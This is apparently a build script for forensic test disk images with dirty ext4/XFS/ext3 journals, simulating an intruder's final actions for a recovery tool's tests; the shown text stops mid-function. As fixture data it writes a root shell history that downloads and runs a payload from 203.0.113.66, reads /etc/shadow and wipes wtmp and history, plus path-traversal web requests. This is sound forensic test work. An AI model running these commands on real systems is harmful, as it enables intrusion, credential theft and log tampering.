#!/usr/bin/env python3
"""Build the "snapshot of a running machine" images: a dirty ext4 jbd2 journal,
a dirty XFS log (and an ext3 journal), with the kernel's own filesystems.

    python3 images/build-journal.py            # rebuild images/journal-{ext4,xfs,ext3}.img.gz and
                                               # images/expected/journal-*.tsv, journal-*.on-disk.tsv
    python3 images/build-journal.py --only ext4,xfs
    python3 images/build-journal.py --check    # no rebuild: re-derive both views from the COMMITTED
                                               # images and diff the committed listings (exit 1 on mismatch)
    python3 images/build-journal.py --keep     # keep the work dir (printed) for inspection

Needs root (losetup, mount, fsfreeze, the kernel's ext4 and XFS drivers), python3, util-linux
(losetup, fsfreeze; utmpdump if present), e2fsprogs 1.47 (mke2fs, dumpe2fs, debugfs, e2fsck) and
xfsprogs 6.x (mkfs.xfs, xfs_io, xfs_logprint, xfs_repair). --check needs only root, loop devices,
the two kernel drivers, and (for the printed journal statistics) dumpe2fs/debugfs/xfs_logprint;
without root or loop devices it prints why and exits 0. See "Journal images" in images/README.md.

The images are NOT byte-deterministic (the kernel stamps ctimes/crtimes, log records and journal
sequence numbers with the time and its own state), which is why --check does not rebuild: the
committed .img.gz files are the evidence, and the kernel's reading of them is the truth.

What happens, per image, and why each step is there:

 1. The image file is filled with the 16-byte pattern `SNAPSIFT-STALE!\\n` (as build.py does), then
    mke2fs (`-E nodiscard,lazy_itable_init=0,lazy_journal_init=0`: no background ext4lazyinit
    writing behind our back, a zeroed journal) or `mkfs.xfs -K` (no discard; TEST_DIR/TEST_DEV/
    QA_CHECK_FS let mkfs.xfs 6.x make a filesystem under 300 MB, as in build-xfs.sh).
 2. It is attached to a loop device (`losetup`, buffered: what the kernel writes to the loop device
    lands in the backing file's page cache, so `cp` of the backing file sees exactly what reached
    the "disk"), mounted read-write with `noatime` (reading files for the listings must not dirty
    inodes), and the baseline is written: an Ubuntu-like root (`/etc/hostname`, os-release,
    passwd with root/alice/bob), logs of tens of KiB (several blocks, extents/indirect blocks),
    real gzip, binary utmp records (`utmpdump -r` from text when util-linux has it), histories
    and some noise. Every file gets a fixed mtime with nanoseconds.
 3. `sync`, then `fsfreeze -f` + `fsfreeze -u`: freezing checkpoints the ext4 journal (everything
    written home, journal empty) and covers the XFS log. The baseline is now entirely in its home
    blocks; a listing of the live mount at this point is the expected un-replayed view.
 4. The intruder's last seconds (about 0.1-0.5 s, well inside ext4's 5 s commit interval, the
    30 s dirty-buffer expiry and XFS's 30 s log worker, any of which would write metadata home),
    in three phases, each ended by fsync() (so the journal holds ~9 transactions, the XFS log
    ~9 checkpoints):
      1. only allocations: appends to btmp, nginx/access.log, syslog and /root/.bash_history,
         a new /var/log/.x/implant.log and /home/bob/.bash_history, and a staging directory
         /var/tmp/.stage with 121 files (a new inode chunk on XFS: icreate items);
      2. logrotate of auth.log (the old auth.log.2.gz removed, auth.log.1 -> auth.log.2 -> gzip
         -> auth.log.2.gz, auth.log -> auth.log.1, a new auth.log with the intruder's login);
      3. only frees: the staging directory removed (its journaled directory block: a revoke
         record in the ext journal, cancelled buffers in the XFS log), /root/todo.txt deleted,
         /var/log/wtmp truncated to 0.
    Each phase's data is first written out with sync_file_range() (this allocates the blocks
    while the transaction that freed blocks is still open, so no freed block can be reused,
    i.e. overwritten in place, before the crash), then fsync() is called on every touched file
    and directory (an O_RDONLY fd of the directory): that commits the changes to the journal/log
    without writing the metadata home. No sync/syncfs: they also write the block device's dirty
    metadata home, which is exactly what a crash-consistent snapshot does not have.
    A listing of the live mount now is the expected replayed view.
 5. `xfs_io -x -c 'shutdown -f' <mnt>` (ext4 and XFS: force the log, then shut down: nothing is
    written home any more), and the backing file is copied (`cp --sparse=always`) BEFORE
    unmounting: unmounting a shut-down ext4 may still write. That copy is the image.
 6. Truth, from the copy alone: a second copy is attached read-write and mounted `-o ro` (the
    kernel replays the journal/log into that copy; a read-only loop device would make ext4 refuse
    and XFS fail), and a third copy is attached read-only and mounted `-o ro,norecovery` (XFS)
    or `-o ro,noload` (ext): the image as it lies on disk. Each is listed (lstat, sha256 of
    what the kernel reads, readlink).
 7. The build fails loudly unless: the replayed view equals the live listing of step 4, the
    on-disk view equals the live listing of step 3, and the scenario's changes really are only in
    the journal (new files absent on disk, auth.log's rotation undone, wtmp non-empty on disk and
    empty replayed, appended files shorter on disk and a prefix of the replayed content, the
    deleted file still on disk, every other file identical in both views); and (ext) unless
    debugfs, which never replays, reads every file as the norecovery mount does.
 8. The listings go to images/expected/<image>.tsv (replayed) and <image>.on-disk.tsv, the copy
    to images/<image>.img.gz. A report of what differs and the journal statistics (dumpe2fs -h,
    debugfs logdump, xfs_logprint -t on the un-replayed image) are printed, not saved.
"""
import argparse
import contextlib
import ctypes
import difflib
import gzip
import hashlib
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time

here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, here)
import build as B  # noqa: E402  (pct, expect, ts, pattern_file, gzip_to, text generators)

MiB = B.MiB
PATH = os.environ.get("PATH", "") + ":/usr/sbin:/sbin"
ENV = dict(B.ENV, PATH=PATH)
# mkfs.xfs >= 5.19 refuses filesystems under 300 MB unless it thinks it runs under fstests.
SMALL = dict(ENV, TEST_DIR="1", TEST_DEV="1", QA_CHECK_FS="1")

IMAGES = {
    # name: fs type, hostname, size, mkfs command (image path appended)
    "journal-ext4": dict(kind="ext4", host="jext4", size=32 * MiB, env=ENV, mkfs=[
        "mke2fs", "-q", "-F", "-t", "ext4", "-b", "4096", "-J", "size=4", "-L", "jext4",
        "-U", "5eed0014-0000-4000-8000-0000000000e4",
        "-E", "nodiscard,lazy_itable_init=0,lazy_journal_init=0,hash_seed=5eed0014-0000-4000-8000-0000000000a4"]),
    "journal-xfs": dict(kind="xfs", host="jxfs", size=32 * MiB, env=SMALL, mkfs=[
        "mkfs.xfs", "-q", "-f", "-K", "-L", "jxfs", "-m", "uuid=5eed0014-0000-4000-8000-0000000000f5"]),
    "journal-ext3": dict(kind="ext3", host="jext3", size=16 * MiB, env=ENV, mkfs=[
        "mke2fs", "-q", "-F", "-t", "ext3", "-b", "1024", "-I", "256", "-J", "size=4", "-L", "jext3",
        "-U", "5eed0014-0000-4000-8000-0000000000e3",
        "-E", "nodiscard,lazy_itable_init=0,lazy_journal_init=0,hash_seed=5eed0014-0000-4000-8000-0000000000a3"]),
}
HOMES = {b"/root", b"/home/alice", b"/home/bob"}
HEADER = "offset\tpath\ttype\tinode\tsize\tsha256\tmtime\ttarget\texpect\tjournal"

# What the scenario does (checked against the two views).
NEW = [b"/var/log/.x/implant.log", b"/home/bob/.bash_history"]
GONE = [b"/root/todo.txt"]
APPENDED = [b"/var/log/syslog", b"/var/log/nginx/access.log", b"/var/log/btmp", b"/root/.bash_history"]
ROTATED = [b"/var/log/auth.log", b"/var/log/auth.log.1", b"/var/log/auth.log.2.gz"]
EMPTIED = [b"/var/log/wtmp"]
CHANGED = set(NEW + GONE + APPENDED + ROTATED + EMPTIED)


def run(cmd, ok=(0,), env=None, **kw):
    cmd = [os.fsdecode(c) if isinstance(c, bytes) else str(c) for c in cmd]
    p = subprocess.run(cmd, env=env or ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
    if p.returncode not in ok:
        raise SystemExit("command failed (%d): %s\n%s%s" % (p.returncode, " ".join(cmd),
                         p.stdout.decode(errors="replace")[-3000:], p.stderr.decode(errors="replace")[-3000:]))
    return p.stdout.decode(errors="replace")


def ns(y, mo, d, h=0, mi=0, s=0, n=0):
    return B.ts(y, mo, d, h, mi, s)[0] * 10**9 + n


# ---------------------------------------------------------------------------
# loop devices and mounts (always undone in `finally`)
# ---------------------------------------------------------------------------
@contextlib.contextmanager
def attached(img, readonly=False):
    dev = run(["losetup", "--show", "-f"] + (["-r"] if readonly else []) + [img]).strip()
    try:
        yield dev
    finally:
        subprocess.run(["losetup", "-d", dev], stderr=subprocess.DEVNULL)


@contextlib.contextmanager
def mounted(dev, mnt, kind, opts):
    os.makedirs(mnt, exist_ok=True)
    run(["mount", "-t", "xfs" if kind == "xfs" else "ext4", "-o", opts, dev, mnt])
    try:
        yield mnt
    finally:
        for _ in range(5):
            if subprocess.run(["umount", mnt], stderr=subprocess.DEVNULL).returncode == 0:
                break
            time.sleep(0.5)
        else:
            print("warning: cannot unmount %s" % mnt, file=sys.stderr)


def copy_sparse(src, dst):
    run(["cp", "--sparse=always", src, dst])


# ---------------------------------------------------------------------------
# content
# ---------------------------------------------------------------------------
def utmp(records):
    """records: (type, pid, line, id, user, host, sec, usec) -> binary utmp (384-byte records).
    Made by `utmpdump -r` from its text form when util-linux has it; the Python packing (struct
    utmp on x86-64/glibc) is the fallback and must agree with it byte for byte."""
    text, binary = [], b""
    for typ, pid, line, uid, user, host, sec, usec in records:
        addr = socket.inet_aton(host) + b"\0" * 12 if re.match(r"^\d+\.\d+\.\d+\.\d+$", host) else b"\0" * 16
        binary += struct.pack("<hxxi32s4s32s256shhiii16s20x", typ, pid, line.encode(), uid.encode(),
                              user.encode(), host.encode(), 0, 0, 0, sec, usec, addr)
        when = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)) + ",%06d+00:00" % usec
        text.append("[%d] [%05d] [%-4.4s] [%-8s] [%-12s] [%-20s] [%-15s] [%s]\n" % (
            typ, pid, uid, user, line, host, host if addr.strip(b"\0") else "0.0.0.0", when))
    if shutil.which("utmpdump", path=PATH):
        made = subprocess.run(["utmpdump", "-r"], input="".join(text).encode(), stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, check=True).stdout
        if made != binary:
            raise SystemExit("utmpdump -r and the Python utmp packing disagree")
        return made
    return binary


def wtmp_records(t, n, start):
    out, s = [], start
    for i in range(n):
        s += t.rnd.randrange(60, 4000)
        user = t.rnd.choice(["alice", "alice", "bob", "root"])
        tty = "pts/%d" % (i % 5)
        host = "198.51.100.%d" % t.rnd.randrange(2, 250)
        pid = t.rnd.randrange(1000, 60000)
        out.append((7, pid, tty, "ts/%d" % (i % 5), user, host, s, t.rnd.randrange(0, 10**6)))
        out.append((8, pid, tty, "ts/%d" % (i % 5), "", "", s + t.rnd.randrange(30, 3000), t.rnd.randrange(0, 10**6)))
    return out


def btmp_records(t, n, start, src="203.0.113.7"):
    out, s = [], start
    for i in range(n):
        s += t.rnd.randrange(1, 30)
        out.append((6, t.rnd.randrange(1000, 60000), "ssh:notty", "nott", t.rnd.choice(["root", "admin", "oracle", "test"]),
                    src, s, t.rnd.randrange(0, 10**6)))
    return out


def os_release():
    return ('PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\n'
            'VERSION="22.04.4 LTS (Jammy Jellyfish)"\nVERSION_CODENAME=jammy\nID=ubuntu\nID_LIKE=debian\n').encode()


def binary(t, n):
    """Binary-looking but compressible bytes (the images stay small): runs of a few random bytes."""
    out = bytearray(b"\x7fELF\x02\x01\x01\x00")
    while len(out) < n:
        out += bytes([t.rnd.randrange(256)]) * t.rnd.randrange(1, 64) + bytes(range(t.rnd.randrange(256)))
    return bytes(out[:n])


def baseline(host, seed):
    """path -> (bytes, mtime_ns, uid); symlinks: path -> (None, target, mtime_ns)."""
    t = B.Tree(seed)
    d0 = ns(2024, 6, 1, 9, 0, 0)
    files = {
        b"/etc/hostname": (host.encode() + b"\n", d0 + 101_000_001, 0),
        b"/etc/os-release": (os_release(), d0 + 102_000_002, 0),
        b"/etc/passwd": (B.passwd(["alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash",
                                    "bob:x:1001:1001:Bob,,,:/home/bob:/bin/bash"]).encode(), d0 + 103_000_003, 0),
        b"/etc/ssh/sshd_config": (b"Port 22\nPermitRootLogin prohibit-password\nPasswordAuthentication yes\n" * 20,
                                  d0 + 104_000_004, 0),
        b"/var/log/auth.log": (B.auth_lines(t, host, 420, start=B.ts(2024, 5, 31)[0]).encode(), ns(2024, 6, 1, 8, 59, 1, 5), 0),
        b"/var/log/auth.log.1": (B.auth_lines(t, host, 380, start=B.ts(2024, 5, 24)[0]).encode(), ns(2024, 5, 30, 23, 59, 58, 6), 0),
        b"/var/log/auth.log.2.gz": (B.gz(B.auth_lines(t, host, 300, start=B.ts(2024, 5, 17)[0])), ns(2024, 5, 23, 23, 59, 57, 7), 0),
        b"/var/log/syslog": (B.syslog_lines(t, host, 700, start=B.ts(2024, 5, 31)[0]).encode(), ns(2024, 6, 1, 8, 59, 2, 8), 0),
        b"/var/log/nginx/access.log": (B.access_lines(t, 380).encode(), ns(2024, 6, 1, 8, 59, 3, 9), 0),
        b"/var/log/nginx/error.log": (b"2024/05/31 10:00:00 [error] 812#812: *1 open() failed (2: No such file)\n" * 30,
                                      ns(2024, 5, 31, 10, 0, 0, 10), 0),
        b"/var/log/dpkg.log": ("".join("2024-05-%02d 06:%02d:%02d status installed libfoo%d:amd64 1.%d\n" % (
            1 + i % 28, i % 60, (i * 7) % 60, i, i) for i in range(400)).encode(), ns(2024, 5, 28, 6, 0, 0, 11), 0),
        b"/var/log/btmp": (utmp(btmp_records(t, 70, B.ts(2024, 5, 31, 2)[0])), ns(2024, 5, 31, 3, 0, 0, 12), 0),
        b"/var/log/wtmp": (utmp(wtmp_records(t, 70, B.ts(2024, 5, 20)[0])), ns(2024, 6, 1, 8, 0, 0, 13), 0),
        b"/root/.bash_history": (B.hist(t, B.SHELL_CMDS, 90).encode(), ns(2024, 5, 31, 18, 0, 0, 14), 0),
        b"/root/todo.txt": (b"rotate the backup keys\npatch nginx\n", ns(2024, 5, 2, 12, 0, 0, 15), 0),
        b"/home/alice/.bash_history": (B.hist(t, B.SHELL_CMDS, 160).encode(), ns(2024, 6, 1, 7, 30, 0, 16), 1000),
        b"/home/alice/notes.txt": (b"standup at 10\n" * 40, ns(2024, 5, 29, 9, 0, 0, 17), 1000),
        b"/home/bob/.profile": (b"# ~/.profile\nPATH=\"$HOME/bin:$PATH\"\n", ns(2024, 4, 1, 0, 0, 0, 18), 1001),
        b"/usr/bin/ls": (binary(t, 48 * 1024), ns(2024, 3, 1, 0, 0, 0, 19), 0),
        b"/opt/app/data.bin": (binary(t, 20 * 1024), ns(2024, 5, 30, 0, 0, 0, 20), 0),
    }
    links = {b"/etc/localtime": (None, b"/usr/share/zoneinfo/Etc/UTC", d0 + 105_000_005)}
    return t, files, links


def write_tree(mnt, files, links):
    root = os.fsencode(mnt)
    for p, (data, mt, uid) in files.items():
        q = root + p
        os.makedirs(os.path.dirname(q), exist_ok=True)
        with open(q, "wb") as f:
            f.write(data)
        os.chmod(q, 0o600 if b"/btmp" in p or b"history" in p else 0o644)
        os.chown(q, uid, uid)
        os.utime(q, ns=(mt, mt))
    for p, (_, target, mt) in links.items():
        q = root + p
        os.makedirs(os.path.dirname(q), exist_ok=True)
        os.symlink(target, q)
        os.utime(q, ns=(mt, mt), follow_symlinks=False)
    for d in (b"/tmp", b"/var/tmp"):
        os.makedirs(root + d, exist_ok=True)
        os.chmod(root + d, 0o1777)
    for h, uid in ((b"/root", 0), (b"/home/alice", 1000), (b"/home/bob", 1001)):
        os.chown(root + h, uid, uid)
        os.chmod(root + h, 0o700 if h == b"/root" else 0o750)


_libc = ctypes.CDLL(None, use_errno=True)
_libc.sync_file_range.argtypes = [ctypes.c_int, ctypes.c_longlong, ctypes.c_longlong, ctypes.c_uint]


def write_out_data(path):
    """sync_file_range(WAIT_BEFORE|WRITE|WAIT_AFTER): write the data (allocating delalloc blocks)
    without a journal commit or log force."""
    fd = os.open(path, os.O_RDONLY)
    try:
        if _libc.sync_file_range(fd, 0, 0, 7) != 0:
            raise OSError(ctypes.get_errno(), "sync_file_range " + os.fsdecode(path))
    finally:
        os.close(fd)


def fsync_path(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


def scenario(mnt, host, t):
    """The intruder's last seconds, in three phases, each committed by fsync() (several journal
    transactions / log checkpoints). Blocks are freed only in phases 2 and 3, and every block
    phase 2 allocates is allocated (sync_file_range) while the transaction that freed blocks is
    still open, so no freed block can be reused, i.e. overwritten in place, before the crash."""
    root = os.fsencode(mnt)
    P = lambda p: root + p  # noqa: E731
    d1 = ns(2024, 6, 2, 3, 4, 0)

    def commit(files, dirs):
        for p in files:
            write_out_data(P(p))
        for p in files:
            fsync_path(P(p))
        for d in dirs:
            fsync_path(P(d))

    def append(p, data, mt):
        with open(P(p), "ab") as f:
            f.write(data)
        os.utime(P(p), ns=(mt, mt))
        commit([p], [])  # one transaction each, as a logger that fsyncs

    def create(p, data, mt, mode=0o600, uid=0):
        with open(P(p), "wb") as f:
            f.write(data)
        os.chown(P(p), uid, uid)
        os.chmod(P(p), mode)
        os.utime(P(p), ns=(mt, mt))

    # Phase 1: only allocations. The intruder logs in (btmp, syslog, nginx), stages a payload,
    # starts the implant; bob's first shell history.
    append(b"/var/log/btmp", utmp(btmp_records(t, 30, B.ts(2024, 6, 2, 3, 0, 0)[0], "203.0.113.66")), d1 + 4_000_000_102)
    append(b"/var/log/nginx/access.log",
           "".join('203.0.113.66 - - [02/Jun/2024:03:04:%02d +0000] "GET /cgi-bin/.%%2e/.%%2e/bin/sh?%d HTTP/1.1" '
                   '200 %d "-" "curl/8.1"\n' % (i % 60, i, 100 + i) for i in range(60)).encode(), d1 + 8_000_000_104)
    # a staging directory (its directory block and inodes are journaled here, freed in phase 3:
    # a revoke record in the ext journal, cancelled buffers in the XFS log)
    os.makedirs(P(b"/var/tmp/.stage/lib"), 0o700)
    for i in range(120):
        create(b"/var/tmp/.stage/lib/mod%03d-with-a-longer-name-to-fill-the-directory-block.so" % i,
               binary(t, 700), d1 + i)
    create(b"/var/tmp/.stage/i", binary(t, 24 * 1024), d1 + 6_000_000_000, 0o700)
    commit([b"/var/tmp/.stage/i"] + [b"/var/tmp/.stage/lib/" + n for n in sorted(os.listdir(P(b"/var/tmp/.stage/lib")))],
           [b"/var/tmp/.stage/lib", b"/var/tmp/.stage", b"/var/tmp"])
    os.mkdir(P(b"/var/log/.x"), 0o700)
    create(b"/var/log/.x/implant.log", "".join("2024-06-02T03:04:%02d.%06dZ beacon seq=%05d to 203.0.113.66:443 ok\n" % (
        10 + i % 50, i * 7919 % 10**6, i) for i in range(160)).encode(), d1 + 10_000_000_107, 0o644)
    commit([b"/var/log/.x/implant.log"], [b"/var/log/.x", b"/var/log"])
    append(b"/var/log/syslog", B.syslog_lines(t, host, 150, start=B.ts(2024, 6, 1, 9)[0]).encode()
           + ("Jun  2 03:04:07 %s kernel: [31337.000001] implant: loading out-of-tree module taints kernel.\n"
              % host).encode(), d1 + 7_000_000_103)
    create(b"/home/bob/.bash_history", b"sudo -i\nls -la /root\ncat /etc/shadow\nexit\n", d1 + 9_500_000_106, uid=1001)
    commit([b"/home/bob/.bash_history"], [b"/home/bob"])

    # root's shell appends its history as it goes (PROMPT_COMMAND='history -a')
    append(b"/root/.bash_history", b"".join(c + b"\n" for c in [
        b"id", b"uname -a", b"cd /var/log", b"mkdir .x", b"curl -so /var/tmp/.stage/i http://203.0.113.66/i",
        b"chmod +x /var/tmp/.stage/i", b"nohup /var/tmp/.stage/i >/var/log/.x/implant.log 2>&1 &",
        b"rm -rf /var/tmp/.stage /root/todo.txt", b": > /var/log/wtmp", b"history -c", b"exit"]) * 2,
        d1 + 12_000_000_105)

    # Phase 2: logrotate (rotate 2, compress): the oldest goes, .1 -> .2 -> .2.gz, auth.log -> .1,
    # a new auth.log (with the intruder's root login). Frees and allocations in one transaction.
    log = b"/var/log/"
    os.unlink(P(log + b"auth.log.2.gz"))
    os.rename(P(log + b"auth.log.1"), P(log + b"auth.log.2"))
    os.rename(P(log + b"auth.log"), P(log + b"auth.log.1"))
    create(log + b"auth.log", B.auth_lines(t, host, 6, start=B.ts(2024, 6, 2, 3, 0, 0)[0]).encode()
           + ("Jun  2 03:04:05 %s sshd[31337]: Accepted password for root from 203.0.113.66 port 50122 ssh2\n"
              "Jun  2 03:04:05 %s sshd[31337]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n"
              % (host, host)).encode() * 3, d1 + 5_000_000_101, 0o640)
    old1 = open(P(log + b"auth.log.2"), "rb").read()
    mt1 = os.lstat(P(log + b"auth.log.2")).st_mtime_ns  # gzip keeps the source's mtime, in the header too
    create(log + b"auth.log.2.gz", gzip.compress(old1, compresslevel=6, mtime=mt1 // 10**9), mt1, 0o640)
    os.unlink(P(log + b"auth.log.2"))
    commit([log + b"auth.log", log + b"auth.log.2.gz"], [b"/var/log"])

    # Phase 3: only frees. The intruder cleans up: the staging directory, a file of root's, wtmp.
    shutil.rmtree(P(b"/var/tmp/.stage"))
    os.unlink(P(b"/root/todo.txt"))
    os.truncate(P(b"/var/log/wtmp"), 0)
    os.utime(P(b"/var/log/wtmp"), ns=(d1 + 11_000_000_108,) * 2)
    commit([b"/var/log/wtmp"], [b"/var/tmp", b"/root", b"/var/log"])


# ---------------------------------------------------------------------------
# listings
# ---------------------------------------------------------------------------
def listing(mnt):
    """path -> row (what the kernel shows under mnt), data kept for the checks."""
    root = os.fsencode(mnt)
    rows, errors = {}, []
    for d, subdirs, names in os.walk(root):
        subdirs.sort()
        for n in sorted(names + [s for s in subdirs if os.path.islink(os.path.join(d, s))]):
            full = os.path.join(d, n)
            rel = full[len(root):]
            st = os.lstat(full)
            sec, nsec = divmod(st.st_mtime_ns, 10**9)
            row = dict(path=rel, inode=st.st_ino, size=st.st_size, mtime=(sec, nsec), target=b"", sha256="", data=None)
            if os.path.islink(full):
                row.update(type="l", target=os.readlink(full))
            elif os.path.isfile(full):
                row["type"] = "r"
                try:
                    with open(full, "rb") as f:
                        data = f.read()
                    row.update(sha256=hashlib.sha256(data).hexdigest(), data=data)
                except OSError as e:
                    row["sha256"] = "unreadable:" + (e.strerror or str(e)).replace(" ", "-")
                    errors.append("%s: %s" % (os.fsdecode(rel), e))
            else:
                continue
            row["expect"] = B.expect(rel, row["type"], True, HOMES)
            rows[rel] = row
    return rows, errors


KEY = ("type", "inode", "size", "sha256", "mtime", "target")


def journal_column(mine, other, new_word):
    out = {}
    for p, r in mine.items():
        o = other.get(p)
        out[p] = new_word if o is None else ("same" if all(r[k] == o[k] for k in KEY) else "changed")
    return out


def render(rows, col):
    lines = [HEADER]
    for p in sorted(rows):
        r = rows[p]
        sec, nsec = r["mtime"]
        lines.append("0\t%s\t%s\t%d\t%d\t%s\t%d.%09d\t%s\t%s\t%s" % (
            B.pct(p), r["type"], r["inode"], r["size"], r["sha256"], sec, nsec, B.pct(r["target"]), r["expect"], col[p]))
    return "\n".join(lines) + "\n"


def render_pair(disk, rep):
    return render(rep, journal_column(rep, disk, "new")), render(disk, journal_column(disk, rep, "gone"))


def views(img, kind, work):
    """(on-disk rows, replayed rows, notes) of an image: the kernel reads two copies of it."""
    a, b = os.path.join(work, "replay.img"), os.path.join(work, "ondisk.img")
    copy_sparse(img, a)
    copy_sparse(img, b)
    notes = []
    try:
        mark = kmsg_mark()
        with attached(a) as dev, mounted(dev, os.path.join(work, "mnt-replay"), kind, "ro,noatime") as m:
            rep, err = listing(m)
            notes += ["replayed: " + e for e in err]
        notes += ["kernel (replay mount): " + l for l in kmsg_since(mark, os.path.basename(dev))]
        # the replayed copy must now be consistent
        if kind == "xfs":
            r = subprocess.run(["xfs_repair", "-n", a], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=ENV) \
                if shutil.which("xfs_repair", path=PATH) else None
        else:
            r = subprocess.run(["e2fsck", "-fn", a], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=ENV) \
                if shutil.which("e2fsck", path=PATH) else None
        if r is not None:
            notes.append("%s -n on the replayed copy: exit %d%s" % ("xfs_repair" if kind == "xfs" else "e2fsck -f",
                         r.returncode, "" if r.returncode == 0 else "\n    " + "\n    ".join(
                             r.stdout.decode(errors="replace").strip().splitlines()[-12:])))
        mark = kmsg_mark()
        with attached(b, readonly=True) as dev, \
                mounted(dev, os.path.join(work, "mnt-ondisk"), kind, "ro,norecovery" if kind == "xfs" else "ro,noload") as m:
            disk, err = listing(m)
            notes += ["on disk: " + e for e in err]
        notes += ["kernel (norecovery mount): " + l for l in kmsg_since(mark, os.path.basename(dev))]
    finally:
        for p in (a, b):
            if os.path.exists(p):
                os.unlink(p)
    return disk, rep, notes


def kmsg_mark():
    r = subprocess.run(["dmesg"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    return len(r.stdout.splitlines()) if r.returncode == 0 else None


def kmsg_since(mark, dev):
    if mark is None:
        return []
    r = subprocess.run(["dmesg"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    lines = r.stdout.decode(errors="replace").splitlines()[mark:]
    return [re.sub(r"^\[\s*[\d.]+\]\s*", "", l) for l in lines if dev in l]


# ---------------------------------------------------------------------------
# checks and reports
# ---------------------------------------------------------------------------
def scenario_problems(disk, rep):
    """Everything the scenario changed must differ between the views, nothing else may."""
    bad = []
    for p in NEW:
        if p in disk or p not in rep:
            bad.append("%s: should be only in the replayed view" % p.decode())
    for p in GONE:
        if p not in disk or p in rep:
            bad.append("%s: should be only in the on-disk view (deleted in the journal)" % p.decode())
    for p in ROTATED + APPENDED + EMPTIED:
        if p not in disk or p not in rep:
            bad.append("%s: missing from a view" % p.decode())
    if bad:
        return bad
    al, al1, al2 = ROTATED
    if rep[al1]["inode"] != disk[al]["inode"] or rep[al1]["sha256"] != disk[al]["sha256"]:
        bad.append("auth.log.1 (replayed) is not the on-disk auth.log renamed")
    if rep[al]["sha256"] == disk[al]["sha256"] or rep[al]["inode"] == disk[al]["inode"]:
        bad.append("auth.log: the replayed one is not a new file")
    try:
        if gzip.decompress(rep[al2]["data"]) != disk[al1]["data"]:
            bad.append("auth.log.2.gz (replayed) does not hold the on-disk auth.log.1")
    except (OSError, TypeError) as e:
        bad.append("auth.log.2.gz (replayed): %s" % e)
    if rep[al2]["sha256"] == disk[al2]["sha256"]:
        bad.append("auth.log.2.gz: same content in both views")
    for p in EMPTIED:
        if not (disk[p]["size"] > 0 and rep[p]["size"] == 0):
            bad.append("%s: should be non-empty on disk (%d) and empty replayed (%d)" % (p.decode(), disk[p]["size"], rep[p]["size"]))
    for p in APPENDED:
        d, r = disk[p], rep[p]
        if not d["size"] < r["size"]:
            bad.append("%s: on disk %d bytes, replayed %d: not shorter on disk" % (p.decode(), d["size"], r["size"]))
        elif d["data"] is not None and r["data"] is not None and not r["data"].startswith(d["data"]):
            bad.append("%s: the on-disk content is not a prefix of the replayed one" % p.decode())
    for p in sorted(set(disk) | set(rep)):
        if p in CHANGED:
            continue
        d, r = disk.get(p), rep.get(p)
        if d is None or r is None or any(d[k] != r[k] for k in KEY):
            bad.append("%s: differs between the views but the scenario did not touch it" % p.decode())
    return bad


def same_rows(name, want, got):
    """want, got: listings; everything but `data`/`expect` must agree."""
    bad = []
    for p in sorted(set(want) | set(got)):
        w, g = want.get(p), got.get(p)
        if w is None or g is None:
            bad.append("%s: %s %s" % (name, p.decode(), "unexpected" if w is None else "missing"))
            continue
        diff = [k for k in KEY if w[k] != g[k]]
        if diff:
            bad.append("%s: %s: %s" % (name, p.decode(), ", ".join("%s %r != %r" % (k, w[k], g[k]) for k in diff)))
    return bad


def debugfs_problems(img, kind, disk, work):
    """ext2/3/4: debugfs reads the image without replaying the journal; its file contents must be the
    norecovery mount's, and the files created in the journal must not exist for it."""
    if kind == "xfs" or not shutil.which("debugfs", path=PATH):
        return []
    outs, cmds = {}, []
    for i, p in enumerate(sorted(set(disk) | set(NEW))):
        if p in disk and disk[p]["type"] != "r":
            continue
        outs[p] = os.path.join(work, "debugfs-%d" % i)
        cmds.append('dump "%s" "%s"' % (p.decode(), outs[p]))
    cmdfile = os.path.join(work, "debugfs.cmds")
    open(cmdfile, "w").write("\n".join(cmds) + "\n")
    subprocess.run(["debugfs", "-f", cmdfile, img], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=ENV)
    bad = []
    for p, o in outs.items():
        got = open(o, "rb").read() if os.path.exists(o) else None
        if p in disk and (got is None or hashlib.sha256(got).hexdigest() != disk[p]["sha256"]):
            bad.append("debugfs (no replay) reads %s differently from the norecovery mount" % p.decode())
        if p not in disk and got is not None:
            bad.append("debugfs (no replay) finds %s, which the norecovery mount does not" % p.decode())
        if os.path.exists(o):
            os.unlink(o)
    return bad


def diff_report(disk, rep):
    out = []
    for p in sorted(set(disk) | set(rep)):
        d, r = disk.get(p), rep.get(p)
        if d is not None and r is not None and all(d[k] == r[k] for k in KEY):
            continue
        what = "new" if d is None else "gone" if r is None else "changed"
        size = lambda x: "-" if x is None else str(x["size"])  # noqa: E731
        ino = lambda x: "-" if x is None else str(x["inode"])  # noqa: E731
        out.append("    %-8s %-28s on disk %7s B (ino %s)  replayed %7s B (ino %s)" % (
            what, p.decode(), size(d), ino(d), size(r), ino(r)))
    return out


def journal_stats(img, kind):
    """Printed only: what the un-replayed image's journal/log holds."""
    out = []
    if kind == "xfs":
        if not shutil.which("xfs_logprint", path=PATH):
            return ["xfs_logprint not installed"]
        p = subprocess.run(["xfs_logprint", "-t", img], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=ENV)
        text = p.stdout.decode(errors="replace")
        tids = re.findall(r"^TRANS: tid:(0x[0-9a-f]+)", text, re.M)
        items = {}
        for k in re.findall(r"^([A-Z]+):", text, re.M):
            items[k] = items.get(k, 0) + 1
        cancelled = sum(1 for f in re.findall(r"^\s+BUF:.*flags:(0x[0-9a-f]+)", text, re.M) if int(f, 16) & 0x2)
        head = [l.strip() for l in text.splitlines() if "log tail:" in l][:1]
        recs = re.findall(r"^LOG REC AT LSN cycle (\d+) block (\d+)", text, re.M)
